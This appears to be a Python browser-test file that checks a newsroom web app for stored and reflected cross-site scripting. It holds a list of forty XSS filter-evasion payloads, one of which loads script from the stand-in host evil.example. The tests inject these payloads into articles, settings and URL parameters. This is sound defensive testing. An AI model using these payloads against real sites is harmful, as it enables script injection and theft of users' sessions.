"""Stored text that tries to run as script: in every place where a page shows it.

The kinds are those of OWASP's filter evasion cheat sheet, written anew.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from playwright.sync_api import Browser

from pipeline.outcome import Dead
from pipeline.records import EnrichedArticle
from tests.support.browser import visit
from tests.support.data.ledger_entries import ended
from tests.support.data.pages_corpus import id_of, made
from tests.web.pages.conftest import Newsroom

RUN = "window.ran=1;alert(1)"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js></ScRiPt><script >{RUN}</script >",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x' onerror='{RUN}'",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<mark><img src=x onerror={RUN}></mark>",
    "{{ 7 * 7 }}{% raw %}<script>window.ran=1</script>{% endraw %}",
    "${window.ran=1}`${window.ran=1}`",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\ufeff<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
)
PLACES = ("head", "text", "names")
"""Forty payloads in three articles each: 120 that are stored."""


@dataclass(frozen=True)
class Stored:
    """An article that holds a payload."""

    name: str
    article: EnrichedArticle


def stored(number: int, payload: str, place: str) -> Stored:
    name = f"payload-{number}-{place}"
    by_place: dict[str, dict[str, Any]] = {
        "head": {"title": f"Quay {payload}", "description": payload, "section": payload[:200]},
        "text": {"body": f"Quay {payload}\n\n{payload} quay", "summary": payload},
        "names": {
            "authors": (payload,),
            "tags": (payload,),
            "agency": payload,
            "keywords": (payload,),
            "url": f"https://quay.example/{number}?x={payload}",
        },
    }
    fields = by_place[place]
    title = str(fields.pop("title", f"Quay {number}"))
    body = str(fields.pop("body", "A quay."))
    return Stored(name, made(name, title, body, **fields))


@pytest.fixture(scope="module")
def poisoned(newsroom: Newsroom) -> Iterator[list[Stored]]:
    everything = [
        stored(number, payload, place) for number, payload in enumerate(SCRIPTS) for place in PLACES
    ]
    newsroom.resources.index.put([each.article for each in everything])
    later = [
        each.article.model_copy(
            update={
                "body": each.article.body + f"\n\n{payload} more words",
                "fetched_at": each.article.fetched_at + timedelta(hours=1),
            }
        )
        for each, payload in zip(everything[1::3], SCRIPTS, strict=True)
    ]
    newsroom.resources.index.put(later)
    for number, payload in enumerate(SCRIPTS[:10]):
        ended(newsroom.resources.stores, f"quay-{number}", Dead(error=f"{payload}: x"))
    sources = newsroom.resources.settings.sources
    before = sources.read_text()
    names = "".join(
        f"- id: evil-{number}\n  name: {payload!r}\n  feed: https://evil{number}.example/f\n"
        f"  tags: [{payload!r}]\n"
        for number, payload in enumerate(SCRIPTS[:8])
        if "'" not in payload
    )
    sources.write_text(before + names)
    yield everything
    sources.write_text(before)


def paths(everything: list[Stored]) -> Iterator[str]:
    yield from ("/", "/sources", "/sources/evil-0", "/pipeline", "/pipeline/dead")
    yield from ("/search?q=quay&sort=newest", "/search?q=quay&sort=oldest&copies=1")
    for each in everything:
        yield f"/articles/{each.article.id}?q=quay"
    for number in range(len(SCRIPTS)):
        yield f"/articles/{id_of(f'payload-{number}-text')}/versions/2"


def test_no_stored_text_runs(browser: Browser, newsroom: Newsroom, poisoned: list[Stored]) -> None:
    assert len(poisoned) == 120
    with visit(browser, newsroom.base) as made_visit:
        for path in paths(poisoned):
            assert made_visit.go(path) == 200, path
            assert made_visit.page.evaluate("window.ran") is None, path
        assert made_visit.problems() == []


def test_no_text_of_an_address_runs(browser: Browser, newsroom: Newsroom) -> None:
    with visit(browser, newsroom.base) as made_visit:
        for payload in SCRIPTS:
            for path, name in (
                ("/search", "q"),
                ("/search", "f"),
                ("/search", "from"),
                ("/trace", "url"),
                ("/login", "next"),
                ("/sources/add", "address"),
                ("/pipeline/dead", "cause"),
                ("/sources", "collection"),
            ):
                address = made_visit.page.evaluate(
                    "([path, name, value]) => path + '?' + new URLSearchParams([[name, value]])",
                    [path, name, payload],
                )
                assert made_visit.go(address) < 500
                assert made_visit.page.evaluate("window.ran") is None, (path, name, payload)
        assert made_visit.problems() == []
